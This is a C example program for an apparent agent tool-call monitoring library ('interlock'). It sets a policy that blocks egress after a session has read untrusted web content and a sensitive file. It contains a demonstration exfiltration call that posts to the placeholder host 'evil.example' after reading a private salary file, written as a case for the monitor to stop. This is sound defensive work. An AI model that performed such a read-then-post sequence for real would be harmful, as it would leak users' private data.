/* SPDX-License-Identifier: Apache-2.0 */
/* The library from C, as an installed copy is used: a session that reads a page and a private file may not
 * send anything out. Prints one line a call.
 *
 *     cc example.c $(pkg-config --cflags --libs interlock) && ./a.out
 */
#include <interlock/host.h>
#include <stdio.h>

static const char *const policy_text =
    "{\"interlock\": 1, \"machine\": \"trifecta\", \"servers\": {\"files\": {\"trust\": \"inside\"}, \"web\": {\"trust\": \"inside\"}},"
    " \"tools\": ["
    "{\"match\": \"web.fetch\", \"effects\": [\"untrusted\"]},"
    "{\"match\": \"files.read\", \"effects\": [\"sensitive\"]},"
    "{\"match\": \"web.post\", \"effects\": [\"egress\"], \"to\": {\"url\": \"url\"}, \"reads\": [\"body\"]}]}";

static il_str text_of(const char *s)
{
    size_t n = 0;
    while (s[n] != '\0')
        n++;
    return (il_str){s, n};
}

/* Decides one call, "runs" it when it may run, and settles it. */
static il_status call_tool(il_monitor *monitor, const il_alloc *alloc, const char *server, const char *tool, const char *args, il_error *err)
{
    il_json_doc *doc = NULL;
    il_status s = il_json_doc_new(alloc, text_of(args), NULL, &doc, err);
    if (s != IL_OK)
        return s;
    il_call call = {.size = sizeof call, .server = text_of(server), .tool = text_of(tool), .args = il_json_doc_root(doc)};
    il_decision d = IL_DECISION_INIT;
    s = il_monitor_decide(monitor, IL_STR("example"), &call, &d, err);
    printf("%s.%s: %s%s%s\n", server, tool, il_action_name(d.action), d.reason[0] != '\0' ? " " : "", d.reason);
    if (s == IL_OK && d.run) {
        il_outcome outcome = {.size = sizeof outcome, .how = IL_OUTCOME_DONE};
        il_settlement settled = IL_SETTLEMENT_INIT;
        s = il_monitor_settle(monitor, IL_STR("example"), d.ticket, &outcome, &settled, err);
    }
    il_json_doc_free(doc);
    return s;
}

int main(void)
{
    const il_alloc *alloc = il_host_alloc();
    il_machine *machine = NULL;
    il_json_doc *document = NULL;
    il_policy *policy = NULL;
    il_ledger *ledger = NULL;
    il_monitor *monitor = NULL;
    il_error err = {0};
    il_status s = il_host_machine(alloc, IL_STR("trifecta"), &machine, &err);
    if (s == IL_OK)
        s = il_json_doc_new(alloc, text_of(policy_text), NULL, &document, &err);
    if (s == IL_OK)
        s = il_policy_new(alloc, il_json_doc_root(document), machine, &policy, &err);
    il_ledger_options options = {.size = sizeof options};
    if (s == IL_OK)
        s = il_ledger_open(alloc, ":memory:", &options, &ledger, &err);
    if (s == IL_OK) {
        il_monitor_config config = {.size = sizeof config, .policy = policy, .store = il_ledger_store(ledger), .host = il_host_system()};
        s = il_monitor_new(alloc, &config, &monitor, &err);
    }
    il_begin how = {.size = sizeof how};
    if (s == IL_OK)
        s = il_monitor_begin(monitor, IL_STR("example"), &how, &err);
    if (s == IL_OK)
        s = call_tool(monitor, alloc, "web", "fetch", "{\"url\": \"https://pages.example/\"}", &err);
    if (s == IL_OK)
        s = call_tool(monitor, alloc, "files", "read", "{\"path\": \"/home/ana/salary.txt\"}", &err);
    if (s == IL_OK)
        s = call_tool(monitor, alloc, "web", "post", "{\"url\": \"https://evil.example/\", \"body\": \"hello\"}", &err);
    if (s != IL_OK)
        fprintf(stderr, "%s: %s\n", il_status_name(s), err.msg);

    il_monitor_free(monitor);
    il_ledger_close(ledger);
    il_policy_free(policy);
    il_json_doc_free(document);
    il_machine_free(machine);
    return s == IL_OK ? 0 : 1;
}
